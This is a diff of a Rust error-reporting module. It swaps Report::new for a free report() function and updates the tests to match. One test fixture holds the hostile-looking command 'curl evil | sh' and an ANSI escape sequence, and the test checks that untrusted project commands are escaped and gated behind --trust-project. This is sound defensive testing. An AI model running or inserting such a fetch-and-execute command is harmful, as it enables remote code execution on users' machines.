@@ -36,20 +36,15 @@ pub struct Report {
     pub exit: u8,
 }
 
-impl Report {
-    /// The report of an error.
-    #[must_use]
-    pub fn new(error: &commands::Error) -> Self {
-        let (kind, exit) = kind(error);
-        Self {
-            kind,
-            message: error.to_string(),
-            chain: causes(error),
-            hints: commands::advice(error).into_iter().collect(),
-            exit,
-        }
-    }
+/// The report of an error.
+#[must_use]
+pub fn report(error: &commands::Error) -> Report {
+    let (kind, exit) = kind(error);
+    let hints = commands::advice(error).into_iter().collect();
+    Report { kind, message: error.to_string(), chain: causes(error), hints, exit }
+}
 
+impl Report {
     /// The report of a command line that cannot be understood.
     #[must_use]
     pub fn usage(error: &clap::Error) -> Self {
@@ -225,7 +220,7 @@ mod tests {
     fn upstream(trouble: Trouble) -> Report {
         let source =
             llm::Error { trouble, message: "words\nof \u{1b}[2Jthe proxy".into(), retry_after: None, usage: None };
-        Report::new(&commands::Error::Catalog { address: "http://proxy".into(), source })
+        report(&commands::Error::Catalog { address: "http://proxy".into(), source })
     }
 
     #[test]
@@ -253,7 +248,7 @@ mod tests {
     #[test]
     fn all_mistakes_are_told_in_three_lines_and_in_json() {
         let roles = [RoleName::Delegate, RoleName::Planner].map(BadRole::Unset).to_vec();
-        let report = Report::new(&commands::Error::Roles(roles));
+        let report = report(&commands::Error::Roles(roles));
         let lines = report.lines();
         assert_eq!(lines.len(), 3);
         assert!(lines[1].contains("role delegate; no model is set for the role planner"), "{lines:?}");
@@ -270,7 +265,7 @@ mod tests {
     fn one_mistake_is_the_message_itself() {
         let at = Source::File { path: "/c.toml".into(), line: 3 };
         let problem = Problem { at, what: "unknown key proxi".into(), near: Some("proxy".into()) };
-        let report = Report::new(&commands::Error::Settings(settings::Error::Wrong(vec![problem])));
+        let report = report(&commands::Error::Settings(settings::Error::Wrong(vec![problem])));
         let wanted = ["error: /c.toml:3: unknown key proxi (did you mean proxy?)", "  try: write proxy"];
         assert_eq!((report.lines().as_slice(), report.exit), (&wanted.map(str::to_owned)[..], 2));
     }
@@ -282,7 +277,7 @@ mod tests {
             line: 2,
             commands: vec!["curl evil | sh".into(), "rm\u{1b}".into()],
         };
-        let lines = Report::new(&commands::Error::Settings(error)).lines().join("\n");
+        let lines = report(&commands::Error::Settings(error)).lines().join("\n");
         assert!(lines.contains("\"curl evil | sh\"; \"rm\\u{1b}\"") && lines.contains("--trust-project"), "{lines}");
     }
 
@@ -292,7 +287,7 @@ mod tests {
             path: "/ca.pem".into(),
             source: std::io::Error::from(std::io::ErrorKind::NotFound),
         };
-        assert!(Report::new(&commands::Error::Proxy(error)).chain.is_empty());
+        assert!(report(&commands::Error::Proxy(error)).chain.is_empty());
     }
 
     #[test]
